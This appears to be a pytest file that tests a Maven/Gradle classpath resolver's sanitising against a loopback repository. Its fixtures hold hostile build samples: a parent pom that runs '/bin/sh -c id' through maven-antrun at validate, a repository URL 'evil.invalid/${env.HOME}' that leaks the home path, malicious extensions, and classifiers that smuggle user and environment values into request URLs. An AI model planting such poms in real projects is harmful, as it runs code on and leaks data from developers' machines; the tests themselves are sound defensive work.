"""Maven's resolver on the sanitised model, against a Maven repository served on loopback.

A small HTTP server on 127.0.0.1 serves a repository layout: the test's own
artifacts (``qare.fixture:*``, jars and poms written here) and, for Maven's own
plugins, the files of qare's shared cache (seeded once from Maven Central when
they are missing). A generated settings.xml mirrors every repository to it, so
each test starts from an empty local repository and nothing reaches the
internet. Checksums (``.sha1``) are computed from what the server means to
serve; faults are injected per path (a body that differs from its checksum, a
body shorter than its Content-Length).
"""

from __future__ import annotations

import hashlib
import http.server
import io
import os
import shutil
import threading
import zipfile
from pathlib import Path

import pytest

from callgraph._mvn import Reason, parse_failures
from callgraph._mvn_resolve import Method, default_repo_local, resolve_classpath
from callgraph.classpath import fetch_doc_jars

pytestmark = pytest.mark.skipif(shutil.which("mvn") is None, reason="mvn is not installed")

SHARED = default_repo_local()
PLUGINS = [  # what a resolution run needs from Maven itself (checked in the shared cache)
    "org/apache/maven/plugins/maven-dependency-plugin/3.8.1/maven-dependency-plugin-3.8.1.jar",
    "org/apache/maven/plugins/maven-compiler-plugin/3.1/maven-compiler-plugin-3.1.jar",
    "org/apache/maven/plugins/maven-resources-plugin/2.6/maven-resources-plugin-2.6.jar",
]


def _jar(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for k, v in entries.items():
            z.writestr(k, v)
    return buf.getvalue()


def _pom(g, a, v, deps="", extra=""):
    return (f'<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion>'
            f"<groupId>{g}</groupId><artifactId>{a}</artifactId><version>{v}</version>{extra}"
            f"<dependencies>{deps}</dependencies></project>").encode()


def _dep(g, a, v=None, scope=None, extra=""):
    return (f"<dependency><groupId>{g}</groupId><artifactId>{a}</artifactId>"
            + (f"<version>{v}</version>" if v else "") + (f"<scope>{scope}</scope>" if scope else "")
            + extra + "</dependency>")


class Repo:
    """The served repository: ``files`` (path → bytes), ``faults`` (path → "corrupt" | "short"),
    the request log, and the shared cache as a read-only fallback."""

    def __init__(self):
        self.files: dict[str, bytes] = {}
        self.faults: dict[str, str] = {}
        self.requests: list[str] = []

    def put(self, g, a, v, deps="", jar=True, classifiers=(), extra=""):
        base = f"{g.replace('.', '/')}/{a}/{v}/{a}-{v}"
        self.files[base + ".pom"] = _pom(g, a, v, deps, extra)
        if jar:
            self.files[base + ".jar"] = _jar({f"{g.replace('.', '/')}/{a.replace('-', '_')}/Api.class": b"x",
                                              f"META-INF/maven/{g}/{a}/pom.properties":
                                                  f"groupId={g}\nartifactId={a}\nversion={v}\n".encode()})
        for c in classifiers:
            self.files[f"{base}-{c}.jar"] = _jar({"index.html": f"<html>{a} {c}</html>".encode()})
        return base

    def content(self, path: str) -> bytes | None:
        if path in self.files:
            return self.files[path]
        if path.startswith("qare/"):
            return None
        f = SHARED / path
        try:
            if f.is_file() and f.resolve().is_relative_to(SHARED.resolve()) and not f.name.endswith(
                    (".lastUpdated", "_remote.repositories")):
                return f.read_bytes()
        except OSError:
            return None
        return None


@pytest.fixture(scope="module")
def plugins_ready():
    """Maven's plugins in the shared cache (fetched once from Maven Central when absent)."""
    if all((SHARED / p).is_file() for p in PLUGINS):
        return
    root = SHARED.parent / "seed-project"
    root.mkdir(parents=True, exist_ok=True)
    (root / "pom.xml").write_bytes(_pom("qare.seed", "seed", "1"))
    resolve_classpath(root, use_cache=False, fallback=False)
    shutil.rmtree(root, ignore_errors=True)
    if not all((SHARED / p).is_file() for p in PLUGINS):
        pytest.skip("Maven's plugins are not in qare's cache and Maven Central is unreachable to fetch them")


@pytest.fixture
def server(plugins_ready, tmp_path):
    repo = Repo()

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *a):
            pass

        def do_HEAD(self):
            self.do_GET(head=True)

        def do_GET(self, head=False):
            path = self.path.split("?")[0].lstrip("/")
            repo.requests.append(path)
            checksum = path.endswith(".sha1")
            body = repo.content(path[:-5] if checksum else path)
            if body is None:
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            fault = None if checksum else repo.faults.get(path)
            if checksum:
                body = hashlib.sha1(body).hexdigest().encode()
            elif fault == "corrupt":
                body = body[:-1] + bytes([body[-1] ^ 0xFF])
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if head:
                return
            if fault == "short":   # the connection ends half-way through the announced length
                self.wfile.write(body[: len(body) // 2])
                self.wfile.flush()
                self.close_connection = True
                return
            self.wfile.write(body)

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    t = threading.Thread(target=httpd.serve_forever, daemon=True)
    t.start()
    settings = tmp_path / "settings.xml"
    settings.write_text(
        "<settings><mirrors><mirror><id>loopback</id><mirrorOf>*</mirrorOf>"
        f"<url>http://127.0.0.1:{httpd.server_address[1]}/</url></mirror></mirrors></settings>")
    repo.settings = settings
    repo.local = tmp_path / "m2" / "repository"
    yield repo
    httpd.shutdown()
    httpd.server_close()


def _resolve(repo: Repo, root: Path, **kw):
    return resolve_classpath(root, repo_local=repo.local, settings=repo.settings, timeout=300, **kw)


def _names(r):
    return [Path(j).name for j in r.jars]


# --------------------------------------------------------------------------- the sanitised model

EVIL_BUILD = """
<build>
  <extensions><extension><groupId>qare.evil</groupId><artifactId>build-extension</artifactId><version>1.0</version></extension></extensions>
  <plugins><plugin>
    <groupId>qare.evil</groupId><artifactId>validate-plugin</artifactId><version>1.0</version>
    <extensions>true</extensions>
    <executions><execution><phase>validate</phase><goals><goal>pwn</goal></goals></execution></executions>
  </plugin></plugins>
</build>
<reporting><plugins><plugin><groupId>qare.evil</groupId><artifactId>report-plugin</artifactId><version>1.0</version></plugin></plugins></reporting>
<pluginRepositories><pluginRepository><id>evil</id><url>https://evil.invalid/repo</url></pluginRepository></pluginRepositories>
<profiles>
  <profile><id>on</id><activation><activeByDefault>true</activeByDefault></activation>
    <dependencies>""" + _dep("qare.fixture", "from-profile", "1.0") + """</dependencies>
    <build><plugins><plugin><groupId>qare.evil</groupId><artifactId>profile-plugin</artifactId><version>1.0</version></plugin></plugins></build>
  </profile>
  <profile><id>off</id><activation><property><name>x</name></property></activation>
    <dependencies>""" + _dep("qare.evil", "inactive-profile-dep", "1.0") + """</dependencies>
  </profile>
</profiles>
<repositories><repository><id>leak</id><url>https://evil.invalid/${env.HOME}</url></repository></repositories>
"""


def _evil_project(root: Path, with_jvm_config: bool = True) -> Path:
    root.mkdir(parents=True)
    (root / "pom.xml").write_bytes(_pom("com.victim", "app", "1.0", _dep("qare.fixture", "good", "1.0"),
                                        extra=EVIL_BUILD))
    (root / ".mvn").mkdir()
    (root / ".mvn" / "extensions.xml").write_text(
        "<extensions><extension><groupId>qare.evil</groupId><artifactId>core-extension</artifactId>"
        "<version>1.0</version></extension></extensions>")
    (root / ".mvn" / "maven.config").write_text("-Dqare.evil=1\n")
    if with_jvm_config:  # a JVM started with this option dies at once
        (root / ".mvn" / "jvm.config").write_text("-javaagent:/nonexistent/qare-evil-agent.jar\n")
    return root


def _serve_fixture_libs(repo: Repo):
    repo.put("qare.fixture", "good", "1.0", _dep("qare.fixture", "transitive", "1.0")
             + _dep("qare.fixture", "test-only", "1.0", scope="test"))
    repo.put("qare.fixture", "transitive", "1.0")
    repo.put("qare.fixture", "test-only", "1.0")
    repo.put("qare.fixture", "from-profile", "1.0")


def test_nothing_of_the_project_runs_and_a_second_run_downloads_nothing(server, tmp_path):
    _serve_fixture_libs(server)
    root = _evil_project(tmp_path / "victim")
    r = _resolve(server, root)
    assert r.method is Method.MAVEN
    # Maven's order: good, then its own (test scope of a dependency is not transitive), then the profile's
    assert _names(r) == ["good-1.0.jar", "transitive-1.0.jar", "from-profile-1.0.jar"]
    assert [a.coords for a in r.artifacts] == ["qare.fixture:good:1.0", "qare.fixture:transitive:1.0",
                                               "qare.fixture:from-profile:1.0"]
    assert r.unresolved == ()
    # no extension, plugin, report plugin or inactive profile was looked for, anywhere
    assert not [p for p in server.requests if p.startswith("qare/evil")]
    assert not (server.local / "qare" / "evil").exists()
    (refused,) = [w for w in r.warnings if "repository leak refused" in w[1]]
    assert refused[0] == str((root / "pom.xml").resolve())
    assert not (root / "target").exists() and not (root / "qare-deps.txt").exists()  # the project folder untouched
    # a second run downloads nothing (the same project's first run is the one above: one
    # Maven run less than a test of its own)
    first = r
    assert first.downloads > 0 and first.bytes_downloaded > 0 and not first.from_cache
    served = len(server.requests)
    again = _resolve(server, root)
    assert again.from_cache and again.downloads == 0 and again.jars == first.jars
    no_cache = _resolve(server, root, use_cache=False)     # Maven itself, on the warm repository
    assert no_cache.downloads == 0 and no_cache.jars == first.jars
    assert len(server.requests) == served
    docs = fetch_doc_jars(["qare.fixture:good:1.0"], repo_local=server.local, settings=server.settings)
    assert docs.failures[0].reason is Reason.NOT_FOUND  # none published
    server.put("qare.fixture", "transitive", "1.0", classifiers=("javadoc",))
    # progress=True: the bar's callback once named an undefined variable (every fetch on a terminal failed)
    d1 = fetch_doc_jars(["qare.fixture:transitive:1.0"], repo_local=server.local, settings=server.settings,
                        progress=True)
    assert [j.coords for j in d1.jars] == ["qare.fixture:transitive:1.0"] and d1.downloads >= 1
    served = len(server.requests)
    d2 = fetch_doc_jars(["qare.fixture:transitive:1.0", "qare.fixture:good:1.0"], repo_local=server.local,
                        settings=server.settings)
    assert d2.downloads == 0 and len(server.requests) == served   # no mvn run at all
    assert [f.reason for f in d2.failures] == [Reason.NOT_FOUND]  # Maven's remembered miss
    # still nothing of the project was asked for
    assert not [p for p in server.requests if p.startswith("qare/evil")]


def test_the_detector_sees_what_running_maven_on_the_project_would_do(server, tmp_path):
    """Control: plain ``mvn validate`` in the project folder asks for the extensions
    (so the assertions above can fail)."""
    import subprocess

    _serve_fixture_libs(server)
    root = _evil_project(tmp_path / "victim", with_jvm_config=False)
    subprocess.run(["mvn", "-B", "-s", str(server.settings), f"-Dmaven.repo.local={server.local}", "validate"],
                   cwd=root, capture_output=True, timeout=300)
    assert any(p.startswith("qare/evil/core-extension") for p in server.requests)


def test_multi_module_project_modules_are_sources(server, tmp_path):
    _serve_fixture_libs(server)
    server.put("qare.fixture", "web", "2.0")
    root = tmp_path / "mm"
    (root / "core").mkdir(parents=True)
    (root / "app").mkdir()
    parent = ("<parent><groupId>com.me</groupId><artifactId>parent</artifactId><version>1.0</version></parent>")
    (root / "pom.xml").write_bytes(_pom("com.me", "parent", "1.0", extra=(
        "<packaging>pom</packaging><modules><module>core</module><module>app</module></modules>"
        "<properties><web.version>2.0</web.version></properties>"
        "<dependencyManagement><dependencies>" + _dep("qare.fixture", "web", "${web.version}")
        + "</dependencies></dependencyManagement>")))
    (root / "core" / "pom.xml").write_bytes(
        _pom("com.me", "core", "1.0", _dep("qare.fixture", "good", "1.0"), extra=parent)
        .replace(b"<groupId>com.me</groupId><artifactId>core", b"<artifactId>core"))
    (root / "app" / "pom.xml").write_bytes(
        _pom("com.me", "app", "1.0", _dep("com.me", "core", "${project.version}") + _dep("qare.fixture", "web"),
             extra=parent).replace(b"<groupId>com.me</groupId><artifactId>app", b"<artifactId>app"))
    r = _resolve(server, root)
    assert r.method is Method.MAVEN and r.unresolved == ()
    # core's libraries, then app's (core itself is a module: no jar, no download)
    assert _names(r) == ["good-1.0.jar", "transitive-1.0.jar", "web-2.0.jar"]
    assert not [p for p in server.requests if p.startswith("com/me")]


def test_unresolvable_dependencies_are_reported_and_the_rest_kept(server, tmp_path):
    _serve_fixture_libs(server)
    server.put("qare.fixture", "broken-parent-child", "1.0",
               extra="<parent><groupId>qare.fixture</groupId><artifactId>gone</artifactId><version>1</version></parent>")
    server.put("qare.fixture", "brings-missing", "1.0", _dep("qare.fixture", "vanished", "3.0"))
    root = tmp_path / "p"
    root.mkdir()
    (root / "pom.xml").write_bytes(_pom("com.me", "p", "1", _dep("qare.fixture", "good", "1.0")
                                        + _dep("qare.fixture", "typo-in-name", "1.0")
                                        + _dep("qare.fixture", "brings-missing", "1.0")
                                        + _dep("qare.fixture", "no-version")))
    r = _resolve(server, root)
    assert r.method is Method.MAVEN
    assert _names(r) == ["good-1.0.jar", "transitive-1.0.jar", "brings-missing-1.0.jar"]
    reasons = {f.coords: f.reason for f in r.unresolved}
    assert reasons == {"qare.fixture:no-version": Reason.INVALID_MODEL,
                       "qare.fixture:typo-in-name:1.0": Reason.NOT_FOUND,
                       "qare.fixture:vanished:3.0": Reason.NOT_FOUND}


def test_gradle_declared_coordinates_with_the_spring_boot_bom(server, tmp_path):
    _serve_fixture_libs(server)
    server.put("qare.fixture", "managed", "2.5")
    server.put("qare.fixture", "managed", "9.0")  # a later version that the BOM does not pick
    server.put("qare.fixture", "catalogued", "4.0")
    server.files["org/springframework/boot/spring-boot-dependencies/9.9.9-qare/spring-boot-dependencies-9.9.9-qare.pom"] = (
        _pom("org.springframework.boot", "spring-boot-dependencies", "9.9.9-qare", extra=(
            "<packaging>pom</packaging><dependencyManagement><dependencies>"
            + _dep("qare.fixture", "managed", "2.5") + "</dependencies></dependencyManagement>")))
    root = tmp_path / "g"
    (root / "gradle").mkdir(parents=True)
    (root / "build.gradle").write_text("""
plugins {
    id 'java'
    id 'org.springframework.boot' version '9.9.9-qare'
    id 'io.spring.dependency-management' version '1.1.7'
}
dependencies {
    implementation 'qare.fixture:managed'                 // version from the Boot BOM
    testImplementation "qare.fixture:good:${goodVersion}" // gradle.properties
    implementation libs.cat.lib                           // version catalog
    compileOnly 'qare.fixture:nothing-declares-my-version'
}
""")
    (root / "gradle.properties").write_text("goodVersion=1.0\n")
    (root / "gradle" / "libs.versions.toml").write_text(
        '[versions]\ncat = "4.0"\n[libraries]\ncat-lib = { module = "qare.fixture:catalogued", version.ref = "cat" }\n')
    r = _resolve(server, root)
    assert r.method is Method.GRADLE
    got = {a.coords: a.scope for a in r.artifacts}
    assert got == {"qare.fixture:managed:2.5": "compile", "qare.fixture:good:1.0": "test",
                   "qare.fixture:transitive:1.0": "test", "qare.fixture:catalogued:4.0": "compile"}
    (f,) = r.unresolved
    assert (f.coords, f.reason) == ("qare.fixture:nothing-declares-my-version", Reason.INVALID_MODEL)


def test_gradle_platform_project_versions_reach_maven(server, tmp_path):
    # halo's layout: the versions live in a java-platform subproject's constraints
    # (a catalog bundle among them), the application uses platform(project(...)).
    server.put("qare.fixture", "pinned", "1.5", _dep("qare.fixture", "deep", "1.0"))
    server.put("qare.fixture", "deep", "1.0")
    server.put("qare.fixture", "deep", "3.0")   # the platform's constraint pins the transitive one too
    server.put("qare.fixture", "bundled-a", "7.0")
    server.put("qare.fixture", "bundled-b", "7.0")
    root = tmp_path / "g"
    (root / "gradle").mkdir(parents=True)
    (root / "settings.gradle").write_text("include 'app', 'platform:application'\n")
    (root / "gradle" / "libs.versions.toml").write_text(
        "[versions]\nb = '7.0'\n[libraries]\nbundled-a = { module = 'qare.fixture:bundled-a', version.ref = 'b' }\n"
        "bundled-b = { module = 'qare.fixture:bundled-b', version.ref = 'b' }\n[bundles]\nboth = ['bundled-a', 'bundled-b']\n")
    (root / "platform" / "application").mkdir(parents=True)
    (root / "platform" / "application" / "build.gradle").write_text("""
plugins { id 'java-platform' }
dependencies {
    constraints {
        api 'qare.fixture:pinned:1.5'
        api 'qare.fixture:deep:3.0'
        api libs.bundles.both
    }
}
""")
    (root / "app").mkdir()
    (root / "app" / "build.gradle").write_text("""
dependencies {
    implementation platform(project(':platform:application'))
    implementation 'qare.fixture:pinned'
    testImplementation 'qare.fixture:bundled-b'
}
""")
    r = _resolve(server, root)
    assert r.method is Method.GRADLE
    assert r.unresolved == ()
    # bundled-a is only a constraint: never a dependency
    assert {a.coords: a.scope for a in r.artifacts} == {"qare.fixture:pinned:1.5": "compile",
                                                        "qare.fixture:deep:3.0": "compile",
                                                        "qare.fixture:bundled-b:7.0": "test"}


# --------------------------------------------------------------------------- cache, offline, faults


def test_offline_uses_only_the_cache_and_says_what_is_missing(server, tmp_path):
    _serve_fixture_libs(server)
    root = tmp_path / "p"
    root.mkdir()
    (root / "pom.xml").write_bytes(_pom("com.me", "p", "1", _dep("qare.fixture", "good", "1.0")))
    r = _resolve(server, root, offline=True, fallback=False)
    assert r.jars == () and server.requests == []
    assert {f.reason for f in r.unresolved} <= {Reason.NOT_CACHED}
    assert r.unresolved
    d = fetch_doc_jars(["qare.fixture:good:1.0"], repo_local=server.local, offline=True, settings=server.settings)
    assert [(f.coords, f.reason) for f in d.failures] == [("qare.fixture:good:1.0", Reason.NOT_CACHED)]


def test_checksum_mismatch_and_truncated_file_are_reported_and_never_cached(server, tmp_path):
    for a in ("ok", "corrupt", "short"):
        base = server.put("qare.fixture", a, "1.0", classifiers=("javadoc",))
    server.faults["qare/fixture/corrupt/1.0/corrupt-1.0-javadoc.jar"] = "corrupt"
    server.faults["qare/fixture/short/1.0/short-1.0-javadoc.jar"] = "short"
    d = fetch_doc_jars(["qare.fixture:ok:1.0", "qare.fixture:corrupt:1.0", "qare.fixture:short:1.0"],
                       repo_local=server.local, settings=server.settings, timeout=300)
    assert [j.coords for j in d.jars] == ["qare.fixture:ok:1.0"]
    reasons = {f.coords: f.reason for f in d.failures}
    # Maven 3.8's HTTP transport takes a body cut short by the server as complete: the
    # checksum is what catches it (measured here; docs/classpath.md)
    assert reasons == {"qare.fixture:corrupt:1.0": Reason.CHECKSUM, "qare.fixture:short:1.0": Reason.CHECKSUM}
    assert all("Checksum validation failed" in f.detail for f in d.failures)
    for a in ("corrupt", "short"):
        assert not (server.local / f"qare/fixture/{a}/1.0/{a}-1.0-javadoc.jar").exists()
    assert zipfile.ZipFile(server.local / "qare/fixture/ok/1.0/ok-1.0-javadoc.jar").namelist() == ["index.html"]


def test_mvn_missing_falls_back_to_the_offline_model(tmp_path):
    root = tmp_path / "p"
    root.mkdir()
    (root / "pom.xml").write_bytes(_pom("com.me", "p", "1", _dep("qare.fixture", "good", "1.0")))
    r = resolve_classpath(root, mvn=str(tmp_path / "no-mvn-here"), repo_local=tmp_path / "m2")
    assert r.method is Method.FALLBACK
    assert [(f.coords, f.reason) for f in r.unresolved] == [
        ("*", Reason.MVN_MISSING), ("qare.fixture:good:1.0", Reason.NOT_FOUND)]


# --------------------------------------------------------------------------- reading Maven's words


@pytest.mark.parametrize("line, coords, reason", [
    ("[ERROR] Failed to execute goal on project b: Could not resolve dependencies for project x:b:jar:1: The "
     "following artifacts could not be resolved: x:a:jar:1, nope.nope:zz:jar:9: Could not find artifact x:a:jar:1 "
     "in central (https://repo.maven.apache.org/maven2) -> [Help 1]", ["x:a:1", "nope.nope:zz:9"], Reason.NOT_FOUND),
    ("[ERROR] Failed to execute goal on project tiny: Could not resolve dependencies for project org.example:tiny:jar:"
     "1.0: org.example.nowhere:no-such-lib:jar:9.9.9 was not found in https://repo.maven.apache.org/maven2 during a "
     "previous attempt. This failure was cached", ["org.example.nowhere:no-such-lib:9.9.9"], Reason.NOT_FOUND),
    ("[ERROR] Failed to execute goal on project p: Could not resolve dependencies for project com.me:p:jar:1: Failed "
     "to collect dependencies at a:b:jar:1 -> c:d:jar:2: Failed to read artifact descriptor for c:d:jar:2: Could not "
     "transfer artifact c:d:pom:2 from/to central (https://x): Connect timed out", ["c:d:2"], Reason.TRANSFER),
    ("[ERROR]     'dependencies.dependency.version' for qare.fixture:no-version:jar is missing. @ line 1, column 9",
     ["qare.fixture:no-version"], Reason.INVALID_MODEL),
    ("[ERROR] Failed to execute goal on project qare: Could not resolve dependencies for project qare.docs:project:jar:0:"
     " The following artifacts could not be resolved: g:a:jar:javadoc:1: Could not transfer artifact g:a:jar:javadoc:1"
     " from/to loopback (http://127.0.0.1:1/): Checksum validation failed, expected 'ab' but is actually 'cd'",
     ["g:a:jar:javadoc:1"], Reason.CHECKSUM),
])
def test_parse_failures(line, coords, reason):
    fs = parse_failures([line])
    assert [f.coords for f in fs] == coords
    assert {f.reason for f in fs} == {reason}


# --------------------------------------------------------------------------- parents Maven would read unsanitised

def _antrun_parent(marker: Path) -> str:
    """A parent pom whose build runs ``/bin/sh`` at ``validate`` (maven-antrun-plugin from the shared cache)."""
    return (
        "<packaging>pom</packaging><build><plugins><plugin><groupId>org.apache.maven.plugins</groupId>"
        "<artifactId>maven-antrun-plugin</artifactId><version>3.2.0</version><executions><execution>"
        "<id>pwn</id><phase>validate</phase><goals><goal>run</goal></goals><configuration><target>"
        f'<exec executable="/bin/sh"><arg value="-c"/><arg value="id > {marker}"/></exec>'
        "</target></configuration></execution></executions></plugin></plugins></build>")


def test_a_parent_with_the_local_ga_but_another_version_is_never_read_unsanitised(server, tmp_path):
    """The attack: the root pom is evil:parent:1, the module's parent is evil:parent:2 (default
    relativePath). Maven refuses the local copy (version differs) and would take the original
    evil:parent:2 from the repository, whose build runs a shell. qare fetches and sanitises
    evil:parent:2 itself; the proof that nothing ran is that antrun was never even asked for
    (a fresh local repository: Maven would have to download a plugin it binds) and no marker."""
    marker = tmp_path / "PWNED"
    server.put("evil", "parent", "2", jar=False, extra=_antrun_parent(marker)
               + "<properties><leak>${env.HOME}</leak></properties>")
    _serve_fixture_libs(server)
    root = tmp_path / "m1"
    (root / "child").mkdir(parents=True)
    (root / "pom.xml").write_bytes(_pom("evil", "parent", "1", extra=(
        "<packaging>pom</packaging><modules><module>child</module></modules>")))
    (root / "child" / "pom.xml").write_bytes(
        b'<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion>'
        b"<parent><groupId>evil</groupId><artifactId>parent</artifactId><version>2</version></parent>"
        b"<artifactId>child</artifactId><dependencies>" + _dep("qare.fixture", "good", "1.0").encode()
        + b"</dependencies></project>")
    r = _resolve(server, root)
    assert not marker.exists()
    assert not [p for p in server.requests if "maven-antrun-plugin" in p]
    assert r.method is Method.MAVEN
    assert _names(r) == ["good-1.0.jar", "transitive-1.0.jar"]
    # the remote parent was fetched (as a plain pom) and used sanitised: its env property refused
    assert "evil/parent/2/parent-2.pom" in server.requests
    assert any("leak" in w[1] and "env." in w[1] for w in r.warnings)


def test_a_remote_parent_whose_pom_declares_another_version_is_dropped(server, tmp_path):
    """A repository serves, at evil:parent:3's path, a pom that says it is version 4: Maven
    would refuse the sanitised copy at relativePath and read evil:parent:3 from the local
    repository, unsanitised. qare drops such a parent and says why."""
    marker = tmp_path / "PWNED"
    base = server.put("evil", "parent", "4", jar=False, extra=_antrun_parent(marker))
    server.files["evil/parent/3/parent-3.pom"] = server.files.pop(base + ".pom")
    _serve_fixture_libs(server)
    root = tmp_path / "p"
    root.mkdir()
    (root / "pom.xml").write_bytes(
        b'<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion>'
        b"<parent><groupId>evil</groupId><artifactId>parent</artifactId><version>3</version>"
        b"<relativePath/></parent><artifactId>app</artifactId><dependencies>"
        + _dep("qare.fixture", "good", "1.0").encode() + b"</dependencies></project>")
    r = _resolve(server, root)
    assert not marker.exists()
    assert not [p for p in server.requests if "maven-antrun-plugin" in p]
    assert _names(r) == ["good-1.0.jar", "transitive-1.0.jar"]
    assert any(f.coords == "evil:parent:3" and f.reason is Reason.PARENT for f in r.unresolved)


def test_env_settings_and_system_properties_never_reach_a_request(server, tmp_path):
    """The tester's leak: ``${env.HOME}`` in a classifier, ``${settings.…}`` through a property
    into a type, both sent to the repository in a request URL; the same with the JVM's
    system properties (``${user.home}``, ``${user.name}`` directly, ``${java.home}`` through a
    property). Such values are dropped. One Maven run checks all five (each would be a request)."""
    import getpass

    _serve_fixture_libs(server)
    server.put("qare.fixture", "managed", "2.5")
    server.put("qare.fixture", "from-profile", "1.0")
    root = tmp_path / "p"
    root.mkdir()
    (root / "pom.xml").write_bytes(_pom("com.me", "p", "1", _dep("qare.fixture", "good", "1.0")
                                        + _dep("qare.fixture", "transitive", "1.0",
                                               extra="<classifier>${env.HOME}</classifier>")
                                        + _dep("qare.fixture", "test-only", "1.0",
                                               extra="<type>${x}</type>")
                                        + _dep("qare.fixture", "managed", "2.5",
                                               extra="<classifier>${user.name}</classifier>")
                                        + _dep("qare.fixture", "from-profile", "1.0",
                                               extra="<classifier>${jh}-${user.home}</classifier>"),
                                        extra="<properties><x>${settings.localRepository}</x>"
                                              "<jh>${java.home}</jh><java.version>17</java.version>"
                                              "<release>${java.version}</release></properties>"))
    r = _resolve(server, root)
    # what Maven would have filled in: $HOME (passed to mvn), the local repository's path,
    # the user's name, home and the JDK's folder
    java_home = os.path.realpath(os.environ.get("JAVA_HOME") or "/usr/lib/jvm/java-17-openjdk-amd64")
    secrets = (os.environ["HOME"].strip("/"), str(server.local).strip("/"), java_home.strip("/"),
               os.path.expanduser("~").strip("/"), "-" + getpass.getuser())
    assert not [p for p in server.requests if any(s in p.replace("%2F", "/") for s in secrets)]
    refused = [w[1] for w in r.warnings]
    assert any("classifier" in w and "env." in w for w in refused)
    assert any("property x" in w and "settings." in w for w in refused)
    assert any("classifier" in w and "'user.name'" in w for w in refused)
    assert any("property jh" in w and "'java.home'" in w for w in refused)
    # a name the pom defines itself is the pom's value, not the machine's
    assert not [w for w in refused if "release" in w or "java.version" in w]
    # the dependency whose <type> named the refused property x keeps its default type (else Maven
    # would ask for the literal type "${x}" and fail the module): everything resolves
    assert {"good-1.0.jar", "transitive-1.0.jar", "test-only-1.0.jar", "managed-2.5.jar",
            "from-profile-1.0.jar"} <= set(_names(r)) and r.unresolved == (), r.unresolved


def test_an_imported_bom_contributes_versions_never_plugins(server, tmp_path):
    """BOMs (``scope=import``) are not sanitised: Maven imports only their
    dependencyManagement. A BOM whose build binds antrun to ``validate`` (and that has an
    extension) gives its versions and nothing of its build is even downloaded."""
    marker = tmp_path / "PWNED"
    _serve_fixture_libs(server)
    server.put("qare.fixture", "managed", "2.5")
    server.put("evil", "bom", "1", jar=False, extra=_antrun_parent(marker).replace(
        "<build>", "<build><extensions><extension><groupId>qare.evil</groupId><artifactId>bom-ext</artifactId>"
        "<version>1</version></extension></extensions>")
        + "<dependencyManagement><dependencies>" + _dep("qare.fixture", "managed", "2.5")
        + "</dependencies></dependencyManagement>")
    root = tmp_path / "p"
    root.mkdir()
    (root / "pom.xml").write_bytes(_pom("com.me", "p", "1", _dep("qare.fixture", "managed"), extra=(
        "<dependencyManagement><dependencies>"
        + _dep("evil", "bom", "1", scope="import", extra="<type>pom</type>")
        + "</dependencies></dependencyManagement>")))
    r = _resolve(server, root)
    assert _names(r) == ["managed-2.5.jar"] and r.unresolved == ()
    assert "evil/bom/1/bom-1.pom" in server.requests
    assert not marker.exists()
    assert not [p for p in server.requests if "maven-antrun-plugin" in p or p.startswith("qare/evil")]
